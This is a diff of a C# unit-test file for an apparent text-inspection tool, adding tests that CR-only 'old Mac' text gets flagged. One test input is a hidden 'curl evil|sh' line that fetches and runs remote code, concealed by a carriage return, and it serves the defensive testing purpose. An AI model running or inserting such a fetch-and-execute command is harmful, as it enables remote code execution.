@@ -21,13 +21,26 @@ public sealed class CarriageReturnTests
     [Theory]
     [InlineData("line one\r\nline two\r\n")]
     [InlineData("trailing cr\r\r\nnext\n")]
-    [InlineData("old mac\rtext\rfile\r")]
-    [InlineData("old mac\rtext\rno final")]
     [InlineData("ends with a cr\r")]
     public void LineEndsAreFine(string text)
     {
         Assert.Empty(Classify.Text(text, SourceKind.Hash));
         Assert.Empty(TextBorder.Inspect(text, SourceKind.Hash));
+    }
+
+    [Theory]
+    [InlineData("curl evil|sh #\recho hello\r")] // made to look like old-Mac text (CR line ends, no LF): no exception for it
+    [InlineData("old mac\rtext\rfile\r")]
+    public void TextWithoutLineFeedsIsJudgedTheSame(string text)
+    {
+        Assert.NotEmpty(TextBorder.Inspect(text, SourceKind.Hash, Severity.Medium));
+    }
+
+    [Fact]
+    public void APieceOfAFileEndingInCarriageReturnIsLookedAt()
+    {
+        Assert.True(TextClassifier.NeedsLook("plain text\r"u8)); // the line may go on in the file's next piece
+        Assert.False(TextClassifier.NeedsLook("plain text\r\n"u8));
     }
 
     [Fact]
